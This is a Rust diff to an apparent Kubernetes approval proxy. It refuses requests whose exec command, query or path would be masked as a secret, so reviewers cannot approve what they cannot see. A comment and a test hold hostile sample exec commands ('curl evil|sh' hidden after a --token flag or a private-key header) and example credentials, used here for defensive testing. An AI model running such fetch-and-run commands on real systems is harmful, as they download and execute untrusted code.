@@ -78,6 +78,13 @@ pub enum Error {
     #[error("a request held for approval needs a body a reviewer can read: {0}")]
     Unreviewable(String),
     #[error(
+        "a request held for approval is shown to its reviewers whole, and this one's {part} \
+         holds what chaperone takes for a secret, which it masks: a reviewer would approve \
+         what they cannot see, so the request is refused. Pass the secret another way (an \
+         environment variable or file from a Secret), or have the policy allow this request"
+    )]
+    Hidden { part: &'static str },
+    #[error(
         "AccessRequest {namespace}/{name} holds another request (its spec.key differs), so \
          this one is refused rather than decided by it"
     )]
@@ -97,7 +104,9 @@ pub enum Error {
 impl Error {
     pub fn status(&self) -> Status {
         match self {
-            Error::Denied { .. } | Error::Pending { .. } => Status::forbidden(self.to_string()),
+            Error::Denied { .. } | Error::Pending { .. } | Error::Hidden { .. } => {
+                Status::forbidden(self.to_string())
+            }
             Error::TooManyHeld { .. } => Status::too_many_requests(self.to_string()),
             Error::NameTaken { .. } | Error::ShownOtherwise { .. } => {
                 Status::failure(StatusCode::CONFLICT, "Conflict", self.to_string())
@@ -352,23 +361,11 @@ impl Approvals {
             return Ok(Hold::Ready(Outcome::Skipped));
         }
         let commands = commands(query);
-        // Reviewers see an exec's command, the path and the query as the record keeps
-        // them: what the detectors find masked.
-        let shown: Vec<String> = commands
-            .iter()
-            .zip(masker.mask_command(&commands))
-            .map(|(c, masked)| match masked {
-                Some(m) => String::from_utf8_lossy(&m).into_owned(),
-                None => c.clone(),
-            })
-            .collect();
         let query = approved_query(info, query);
-        let shown_query = query.map(|q| masker.mask_query(q).unwrap_or_else(|| q.to_owned()));
-        let shown_path = shown_path(masker, info);
-        let masked = shown != commands
-            || shown_query.as_deref() != query
-            || shown_path.is_some()
-            || body.is_some_and(|b| b.masked > 0);
+        if let Some(part) = hidden_part(masker, &commands, query, info) {
+            return Err(Error::Hidden { part });
+        }
+        let masked = body.is_some_and(|b| b.masked > 0);
         let key = request_key(
             who,
             info,
@@ -390,9 +387,9 @@ impl Approvals {
                 who,
                 info,
                 Shown {
-                    path: shown_path.as_deref().unwrap_or(&info.path),
-                    query: shown_query.as_deref(),
-                    commands: &shown,
+                    path: &info.path,
+                    query,
+                    commands: &commands,
                     body: body.and_then(|b| Some((b.media_type.as_str(), b.shown.as_ref()?))),
                 },
                 decision,
@@ -837,14 +834,27 @@ fn request_key(
     Ok(digest.iter().map(|b| format!("{b:02x}")).collect())
 }
 
-/// The path a reviewer is shown: the resolved path (its escapes decoded once, as the API
-/// server reads it and as the record keeps it) with what the detectors find masked.
-/// `None` when they find nothing. It is not decoded again: a name that holds `%41` is
-/// shown as that name, not as the `A` no server reads.
-fn shown_path(masker: &crate::mask::Masker, info: &RequestInfo) -> Option<String> {
-    masker
-        .mask_text(info.path.as_bytes())
-        .map(|masked| String::from_utf8_lossy(&masked).into_owned())
+/// The part of a request that the detectors would have masked for its reviewers: its
+/// exec command, its query or its path (read once, as the API server reads it). What
+/// runs or is reached is shown whole or not held: a value taken for a secret and masked
+/// could as well be the payload (`sh -c 'eval "$1"' --token 'curl evil | sh'`, or a
+/// script after `-----BEGIN PRIVATE KEY-----`), and a reviewer would approve what they
+/// cannot see.
+fn hidden_part(
+    masker: &crate::mask::Masker,
+    commands: &[String],
+    query: Option<&str>,
+    info: &RequestInfo,
+) -> Option<&'static str> {
+    if masker.mask_command(commands).iter().any(Option::is_some) {
+        Some("command")
+    } else if query.is_some_and(|q| masker.mask_query(q).is_some()) {
+        Some("query")
+    } else if masker.mask_text(info.path.as_bytes()).is_some() {
+        Some("path")
+    } else {
+        None
+    }
 }
 
 /// This process's key for requests shown masked, made once.
@@ -1202,28 +1212,51 @@ mod tests {
         );
     }
 
-    /// A reviewer is shown the path the API server acts on, read once, with what the
-    /// detectors find there masked, as the record keeps it.
+    /// A request whose command, query or path the detectors would mask for its
+    /// reviewers is not held; the path is read once, as the API server reads it.
     #[test]
-    fn the_path_shown_is_read_once_and_masked() {
+    fn a_request_with_a_secret_in_what_runs_or_is_reached_is_not_held() {
         let masker = crate::mask::Masker::builtin();
-        let shown = |path: &str| {
-            let info =
-                crate::request_info::resolve(&"GET".parse().unwrap(), &path.parse().unwrap())
-                    .unwrap();
-            shown_path(&masker, &info)
+        let hidden = |path_and_query: &str| {
+            let uri: http::Uri = path_and_query.parse().unwrap();
+            let info = crate::request_info::resolve(&"GET".parse().unwrap(), &uri).unwrap();
+            let commands = commands(uri.query());
+            hidden_part(
+                &masker,
+                &commands,
+                approved_query(&info, uri.query()),
+                &info,
+            )
         };
+        let exec = "/api/v1/namespaces/d/pods/p/exec?stdout=true";
+        // A script after a PEM header, hidden to the end of its argument; a payload
+        // after a credential flag.
+        for command in [
+            "command=sh&command=-c&command=echo+-----BEGIN+PRIVATE+KEY-----%3B+curl+evil%7Csh",
+            "command=sh&command=-c&command=eval+%22%241%22&command=--token&command=curl+evil%7Csh",
+        ] {
+            assert_eq!(
+                hidden(&format!("{exec}&{command}")),
+                Some("command"),
+                "{command}"
+            );
+        }
+        assert_eq!(hidden(&format!("{exec}&command=ls&command=-l")), None);
         assert_eq!(
-            shown("/api/v1/namespaces/d/services/s/proxy/cb/AKIA%49OSFODNN7EXAMPLE"),
-            Some("/api/v1/namespaces/d/services/s/proxy/cb/chaperone:masked".into())
+            hidden("/api/v1/namespaces/d/services/s/proxy/cb?password=hunter2"),
+            Some("query")
+        );
+        assert_eq!(
+            hidden("/api/v1/namespaces/d/services/s/proxy/cb/AKIA%49OSFODNN7EXAMPLE"),
+            Some("path")
         );
         // `%2549` is the three characters `%49` to the API server and to the service:
-        // shown as sent to them, not decoded a second time into `I`.
+        // not decoded a second time into `I`.
         assert_eq!(
-            shown("/api/v1/namespaces/d/services/s/proxy/cb/AKIA%2549OSFODNN7EXAMPLE"),
+            hidden("/api/v1/namespaces/d/services/s/proxy/cb/AKIA%2549OSFODNN7EXAMPLE"),
             None
         );
-        assert_eq!(shown("/api/v1/namespaces/d/pods/web"), None);
+        assert_eq!(hidden("/api/v1/namespaces/d/pods/web"), None);
     }
 
     /// A grant lasts as long as the reviewer said, and never longer than the rule's
